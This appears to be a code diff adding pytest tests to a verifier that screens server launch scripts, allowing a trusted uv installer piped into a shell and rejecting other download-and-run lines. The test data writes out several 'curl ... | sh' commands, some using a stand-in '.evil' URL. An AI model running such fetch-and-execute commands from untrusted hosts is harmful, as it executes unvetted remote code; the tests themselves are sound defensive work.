@@ -14,6 +14,7 @@ from verifier.core.context import CheckContext
 from verifier.core.policy import load_policies
 from verifier.launch import launches
 from verifier.shell import ShellLimit
+from verifier.shell.launchers import Commands
 from verifier.shell.values import shown
 
 # lines -> what the single-node evaluator finds the started shell running (the only server start)
@@ -119,3 +120,42 @@ def test_a_run_that_starts_two_servers_stops_at_the_second() -> None:
 def test_the_same_server_start_made_again_is_one() -> None:
     ev = run('for attempt in 1 2; do\n  vllm serve "$MODEL" --retry && break\ndone\n')
     assert argv(ev) == ["org/model", "--retry"]
+
+
+def _with_installers(*urls: str) -> Commands:
+    from verifier.launch.commands import shell_commands
+
+    return shell_commands(installers=urls)
+
+
+UV = "https://astral.sh/uv/install.sh"
+
+
+@pytest.mark.parametrize("download", [f"curl -LsSf {UV}", f"wget -qO- {UV}", f'curl -fsSL "{UV}"'])
+def test_a_trusted_tool_installer_piped_into_a_shell_is_read_past(download: str) -> None:
+    """Policy `launcher.trusted-installers`: the runners install uv with `curl -LsSf URL | sh`."""
+    ev = run(f"{download} | sh\n" + SERVE, commands=_with_installers(UV))
+    assert argv(ev) == ["org/model", "--decoy"]
+
+
+@pytest.mark.parametrize("download", [
+    f"curl -LsSf {UV}.evil", f"curl -LsSf {UV} https://example.com/more.sh", f"curl -LsSf -o /tmp/x {UV}",
+    "curl -LsSf $URL", f"curl -LsSf {UV} | sed s/uv/vllm/",
+])
+def test_any_other_download_piped_into_a_shell_stops_the_evaluation(download: str) -> None:
+    with pytest.raises(ShellLimit) as info:
+        run(f"{download} | sh\n" + SERVE, commands=_with_installers(UV))
+    assert "standard input" in info.value.message
+
+
+def test_the_installer_list_is_the_launch_policy() -> None:
+    from verifier.launch.commands import trusted_installers
+
+    assert UV in trusted_installers(load_policies()["launch"])
+
+
+def test_the_multi_node_walk_reads_past_a_trusted_installer_only() -> None:
+    found, errors = _multi_node(f"curl -LsSf {UV} | sh\n")
+    assert not errors and [role for role, _ in found] == ["prefill", "decode"]
+    found, errors = _multi_node(f"curl -LsSf {UV}.evil | sh\n")
+    assert not found and errors and f"curl -LsSf {UV}.evil" in errors[0][2]
